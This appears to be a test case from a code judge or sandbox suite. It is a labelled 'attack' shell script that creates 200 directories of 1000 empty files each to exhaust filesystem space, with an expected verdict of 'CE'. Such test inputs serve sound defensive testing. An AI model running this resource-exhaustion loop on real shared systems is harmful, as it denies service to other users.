# attack: makes empty files until there is no room for their names
# verdict: CE
# because: No space left
# after: nothing left
for i in $(seq 1 200); do
    mkdir "$i" && (cd "$i" && touch $(seq 1 1000)) || exit 1
done
